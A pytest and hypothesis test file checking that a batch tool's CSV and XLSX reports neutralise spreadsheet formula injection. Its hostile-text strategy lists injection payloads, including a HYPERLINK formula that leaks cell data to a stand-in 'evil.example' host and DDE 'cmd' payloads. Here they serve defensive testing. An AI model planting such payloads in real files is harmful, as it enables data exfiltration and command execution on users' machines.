"""Reports that are safe to open: whatever text the input file or the API put into any report
file pcxbatch writes (``results.csv``/``.xlsx``, ``preview.csv``/``.xlsx``, ``undo.csv``), no
spreadsheet runs it as a formula, and the text is otherwise kept.

The rule (:mod:`pcxbatch.report.cells`): in a CSV, a text starting with ``=``, ``+``, ``-``,
``@``, tab or CR gets a leading apostrophe; in an XLSX, every text is a string cell holding the
text exactly (a string cell is never evaluated), and no cell is a formula.

The files are read back as a user's spreadsheet would get them: the CSV with the ``csv``
module, the XLSX with openpyxl (not read-only, so a formula cell would show as one), decoding
OOXML's ``_xHHHH_`` escape as Excel does. Texts here are short, so Excel's cell limit (tested
in test_report.py) never cuts one.
"""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Sequence
from functools import partial
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from pcxbatch.model import Outcome, PlanRow, ReportLine, UndoRow, Verdict
from pcxbatch.report import (
    PREVIEW_HEADERS,
    RESULT_COLUMNS,
    UNDO_HEADERS,
    preview_headers,
    report_headers,
    write_preview,
    write_results,
    write_undo,
)

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_EXCEL_ESCAPE = re.compile("_x([0-9A-Fa-f]{4})_")
# xlsxwriter escapes two _xHHHH_ sequences that share an underscore in a way Excel reads back
# differently (see test_report.py); no real text looks like that.
_OVERLAPPING_ESCAPES = re.compile("_x[0-9A-Fa-f]{4}(?=_x[0-9A-Fa-f]{4}_)")
HYPERLINK = '=HYPERLINK("http://evil","x")'

# Texts a hostile cell or an API error page might hold: formula starts, injection payloads,
# separators, quotes, line breaks, control characters, anything Unicode.
HOSTILE = st.one_of(
    st.text(max_size=40),
    st.tuples(
        st.sampled_from([*DANGEROUS, "'", " ", "\n", "\u3000", ""]), st.text(max_size=30)
    ).map("".join),
    st.sampled_from(
        [
            HYPERLINK,
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
            '"=1+1"',
            "=1+1,=2+2\n=3+3",
            "http://evil.example/",
            "1e5",
            "_x0041_",
            "",
        ]
    ),
)
SETTINGS = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

Line = Sequence[str | int | None]


def line(*cells: str | int | None) -> Line:
    """One expected line of a report file."""
    return list(cells)


def cleaned(text: str) -> str:
    """A lone surrogate (which no UTF-8 file can hold) becomes U+FFFD."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def in_csv(value: str | int | None) -> str:
    """What the CSV holds for a value: a dangerous start gets an apostrophe, nothing else."""
    if value is None:
        return ""
    if isinstance(value, int):
        return str(value)
    kept = cleaned(value)
    return "'" + kept if kept.startswith(DANGEROUS) else kept


def in_xlsx(value: str | int | None) -> str | int | None:
    """What the XLSX holds for a value: the text exactly (empty: no cell), or the number."""
    if isinstance(value, str):
        return cleaned(value) or None
    return value


def no_overlapping_escapes(*texts: str) -> None:
    assume(not _OVERLAPPING_ESCAPES.search("\0".join(texts)))


def excel_text(value: object) -> object:
    if isinstance(value, str):
        return _EXCEL_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), value)
    return value


def check_csv(path: Path, lines: Sequence[Line]) -> None:
    """The CSV holds exactly ``lines`` under the cell rule, and no cell starts dangerously."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        got = list(csv.reader(fh))
    assert got == [[in_csv(v) for v in line] for line in lines]
    for row in got:
        for cell in row:
            assert not cell.startswith(DANGEROUS), repr(cell)


def sheet_order(own: Sequence[str], lead: Sequence[str], inputs: int, after: int) -> list[int]:
    """Where the Rows sheet takes each column from, as indexes into a CSV line of ``own``
    columns, ``inputs`` input columns and ``after`` trailing ones: ``lead`` first, then the
    input's columns, then the rest of ``own``, then the trailing ones (README)."""
    first = [own.index(name) for name in lead if name in own]
    rest = [i for i, name in enumerate(own) if name not in lead]
    n = len(own) + inputs
    return [*first, *range(len(own), n), *rest, *range(n, n + after)]


RESULTS_ORDER = partial(sheet_order, RESULT_COLUMNS, ("row", "user_id", "outcome", "confirmed",
                                                       "message"))  # fmt: skip
PREVIEW_ORDER = partial(sheet_order, PREVIEW_HEADERS, ("row", "user_id", "preview", "message"))


def check_xlsx(path: Path, lines: Sequence[Line], order: Sequence[int]) -> list[str]:
    """The Rows sheet holds ``lines`` cell for cell, its columns taken from ``order``: texts as
    string cells, exactly; numbers as numbers; nothing else. No sheet of the file holds a
    formula, and every text of the Summary sheet is a string cell; its texts are returned."""
    want = {
        (r, c): in_xlsx(line[i])
        for r, line in enumerate(lines, start=1)
        for c, i in enumerate(order, start=1)
        if i < len(line) and in_xlsx(line[i]) is not None
    }
    book = openpyxl.load_workbook(path)
    try:
        assert book.sheetnames == ["Summary", "Rows"]
        summary: list[str] = []
        for cells in book["Summary"].iter_rows():
            for cell in cells:
                assert cell.data_type in ("s", "n"), f"Summary!{cell.coordinate} {cell.data_type}"
                if isinstance(cell.value, str):
                    summary.append(str(excel_text(cell.value)))
        got = {}
        for cells in book["Rows"].iter_rows():
            for cell in cells:
                if cell.value in (None, ""):  # an empty string cell (a blank header) shows empty
                    continue
                assert cell.data_type != "f", f"{cell.coordinate} is a formula"
                kind = "s" if isinstance(want.get((cell.row, cell.column)), str) else "n"
                assert cell.data_type == kind, f"{cell.coordinate}: {cell.data_type!r}"
                got[(cell.row, cell.column)] = excel_text(cell.value)
    finally:
        book.close()
    assert got == want
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", zf.read(name)), f"{name} holds a formula"
    return summary


# --- results.csv / results.xlsx ----------------------------------------------------------------

RESULT_TEXT_FIELDS = ("user_id", "action", "target_status", "message", "request_id")


@SETTINGS
@given(
    fields=st.fixed_dictionaries({name: HOSTILE for name in RESULT_TEXT_FIELDS}),
    columns=st.lists(HOSTILE, min_size=1, max_size=4),
    values=st.lists(HOSTILE, min_size=4, max_size=4),
)
def test_results_keep_hostile_text_as_text(
    tmp_path_factory: pytest.TempPathFactory,
    fields: dict[str, str],
    columns: list[str],
    values: list[str],
) -> None:
    no_overlapping_escapes(*fields.values(), *columns, *values)
    values = values[: len(columns)]
    line = ReportLine(
        row=2,
        user_id=fields["user_id"],
        action=fields["action"],
        target_status=fields["target_status"],
        outcome=Outcome.FAILED,
        http_status=400,
        attempts=1,
        message=fields["message"],
        request_id=fields["request_id"],
        values=tuple(values),
    )
    run_dir = tmp_path_factory.mktemp("run")
    csv_path, xlsx_path = write_results(run_dir, columns, [line], xlsx=True)

    want: list[Line] = [
        report_headers(columns),
        [
            2,
            *(fields[name] for name in ("user_id", "action", "target_status")),
            "failed",
            "yes",
            400,
            1,
            fields["message"],
            fields["request_id"],
            *values,
            "",  # earlier_run: this run decided the row
        ],
    ]
    check_csv(csv_path, want)
    check_xlsx(xlsx_path, want, RESULTS_ORDER(len(columns), 1))


# --- preview.csv / preview.xlsx ----------------------------------------------------------------


@st.composite
def plan_rows(draw: st.DrawFn, width: int) -> PlanRow:
    return PlanRow(
        row=draw(st.integers(2, 10**6)),
        user_id=draw(HOSTILE),
        action=draw(HOSTILE),
        target_status=draw(HOSTILE),
        reason=draw(HOSTILE),  # not shown in a preview, but hostile all the same
        updated_by=draw(HOSTILE),
        seen_status=draw(st.one_of(st.none(), HOSTILE)),
        verdict=draw(st.sampled_from(Verdict)),
        message=draw(HOSTILE),
        values=tuple(draw(st.lists(HOSTILE, min_size=width, max_size=width))),
    )


@SETTINGS
@given(
    title=HOSTILE,
    columns=st.lists(HOSTILE, min_size=1, max_size=3),
    data=st.data(),
    counts=st.dictionaries(st.sampled_from([v.value for v in Verdict]), st.integers(0, 10**6)),
    moves=st.lists(st.tuples(HOSTILE, HOSTILE, st.integers(1, 10**6)), max_size=3),
)
def test_preview_keeps_hostile_text_as_text_in_every_part(
    tmp_path_factory: pytest.TempPathFactory,
    title: str,
    columns: list[str],
    data: st.DataObject,
    counts: dict[str, int],
    moves: list[tuple[str, str, int]],
) -> None:
    rows = data.draw(st.lists(plan_rows(len(columns)), min_size=1, max_size=3))
    texts = [title, *columns, *(a + "\0" + b for a, b, _ in moves)]
    for r in rows:
        texts += [r.user_id, r.action, r.target_status, r.seen_status or "", r.message, *r.values]
    no_overlapping_escapes(*texts)
    run_dir = tmp_path_factory.mktemp("run")
    csv_path, xlsx_path = write_preview(
        run_dir, columns, iter(rows), title=title, counts=counts, transitions=moves, xlsx=True
    )
    assert [csv_path.name, xlsx_path.name] == ["preview.csv", "preview.xlsx"]

    headers = preview_headers(columns)
    rows_part: list[Line] = [
        headers,
        *(
            [
                r.row,
                r.user_id,
                r.action,
                r.seen_status or "",
                r.target_status,
                r.verdict.value,
                r.message,
                *r.values,
            ]
            for r in rows
        ),
    ]
    preamble: list[Line] = [
        [title],
        *(line(v.value, counts.get(v.value, 0)) for v in Verdict),
        *(line(f"{a} -> {b}", n) for a, b, n in moves),
        [],
    ]
    check_csv(csv_path, [*preamble, *rows_part])
    summary = check_xlsx(xlsx_path, rows_part, PREVIEW_ORDER(len(columns), 0))
    # The Summary sheet says what the CSV's preamble says, every text exactly.
    assert cleaned(title) in summary or not cleaned(title)
    for a, b, _ in moves:
        assert f"{cleaned(a) or '(not read)'} \u2192 {cleaned(b)}" in summary


# --- undo.csv ----------------------------------------------------------------------------------


@SETTINGS
@given(
    rows=st.lists(
        st.builds(
            UndoRow,
            user_id=HOSTILE,
            status=HOSTILE,
            reason=HOSTILE,
            updated_by=HOSTILE,
            note=HOSTILE,
            changed_in_row=st.integers(2, 10**6),
        ),
        max_size=4,
    )
)
def test_undo_keeps_hostile_text_as_text(
    tmp_path_factory: pytest.TempPathFactory, rows: list[UndoRow]
) -> None:
    run_dir = tmp_path_factory.mktemp("run")
    assert write_undo(run_dir, iter(rows)) == [run_dir / "undo.csv"]
    want: list[Line] = [
        UNDO_HEADERS,
        *(
            line(r.user_id, r.status, r.reason, r.updated_by, r.note, r.changed_in_row)
            for r in rows
        ),
    ]
    check_csv(run_dir / "undo.csv", want)


# --- each dangerous start, in every text of every file -----------------------------------------


@pytest.mark.parametrize("prefix", DANGEROUS)
def test_each_dangerous_start_is_handled_in_every_file(tmp_path: Path, prefix: str) -> None:
    payload = prefix + 'HYPERLINK("http://evil","x")'
    line = ReportLine(
        row=2,
        user_id=payload,
        action=payload,
        target_status=payload,
        outcome=Outcome.INVALID,
        http_status=None,
        attempts=0,
        message=payload,
        request_id=payload,
        values=(payload,),
    )
    plan = PlanRow(
        row=2,
        user_id=payload,
        action=payload,
        target_status=payload,
        reason=payload,
        updated_by=payload,
        seen_status=payload,
        verdict=Verdict.NOT_FOUND,
        message=payload,
        values=(payload,),
    )
    undo = UndoRow(payload, payload, payload, payload, payload, 2)
    paths = [
        *write_results(tmp_path, [payload], [line], xlsx=True),
        *write_preview(
            tmp_path,
            [payload],
            [plan],
            title=payload,
            counts={},
            transitions=[(payload, payload, 1)],
            xlsx=True,
        ),
        *write_undo(tmp_path, [undo]),
    ]
    assert sorted(p.name for p in paths) == [
        "preview.csv", "preview.xlsx", "results.csv", "results.xlsx", "undo.csv"
    ]  # fmt: skip
    for path in paths:
        if path.suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as fh:
                cells = [c for row in csv.reader(fh) for c in row]
            assert "'" + payload in cells
            assert not [c for c in cells if c.startswith(DANGEROUS)]
            continue
        book = openpyxl.load_workbook(path)
        texts = []
        for ws in book.worksheets:
            for cells_ in ws.iter_rows():
                for cell in cells_:
                    assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula"
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s"
                        texts.append(excel_text(cell.value))
        book.close()
        assert payload in texts and "'" + payload not in texts  # exact, no apostrophe
